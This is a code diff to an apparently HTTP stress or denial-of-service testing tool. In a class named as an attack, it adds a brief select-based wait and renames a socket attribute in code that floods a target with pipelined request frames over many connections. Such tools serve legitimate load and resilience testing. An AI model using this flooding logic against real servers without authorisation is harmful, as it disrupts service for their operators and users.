@@ -6,6 +6,7 @@ Shell.
 import contextlib
 import http.client
 import re
+import select
 import struct
 import time
 import urllib.error
@@ -34,6 +35,7 @@ _FRAMES: Final = 400
 _ROUNDS: Final = 20
 """With the same frames, before others are made."""
 _BLOCK: Final = 16
+_LOOK_S: Final = 0.005
 _SILENT_S: Final = 0.2
 """A connection on which nothing moves for so long waits for a group, say: it goes."""
 
@@ -265,6 +267,7 @@ class PipelinedValues(Attack):
                 for _ in range(_CONNECTIONS - len(pipes)):
                     with contextlib.suppress(*GONE):
                         pipes.append(_Pipe(target.connect()))
+                select.select([pipe.socket for pipe in pipes], (), (), _LOOK_S)
                 pipes = [pipe for pipe in pipes if pipe.goes_on(target, frames)]
         for pipe in pipes:
             pipe.close()
@@ -285,13 +288,13 @@ class _Pipe:
     """One of its connections."""
 
     def __init__(self, connection: Connection) -> None:
-        self._socket = connection.socket
-        self._socket.setblocking(False)
+        self.socket = connection.socket
+        self.socket.setblocking(False)
         self._unsent = memoryview(b"")
         self._moved_s = time.monotonic()
 
     def close(self) -> None:
-        self._socket.close()
+        self.socket.close()
 
     def goes_on(self, target: Target, frames: list[bytes]) -> bool:
         """Read and forget what is there, and send more; False: it is closed, for nothing moves."""
@@ -303,7 +306,7 @@ class _Pipe:
     def _moves(self, target: Target, frames: list[bytes]) -> bool:
         now_s = time.monotonic()
         try:
-            if not self._socket.recv(1 << 18):
+            if not self.socket.recv(1 << 18):
                 return False
             self._moved_s = now_s
         except BlockingIOError:
@@ -314,7 +317,7 @@ class _Pipe:
             target.sent += _BLOCK
             self._unsent = memoryview(b"".join(target.rng.choices(frames, k=_BLOCK)))
         try:
-            self._unsent = self._unsent[self._socket.send(self._unsent) :]
+            self._unsent = self._unsent[self.socket.send(self._unsent) :]
             self._moved_s = now_s
         except BlockingIOError:
             pass
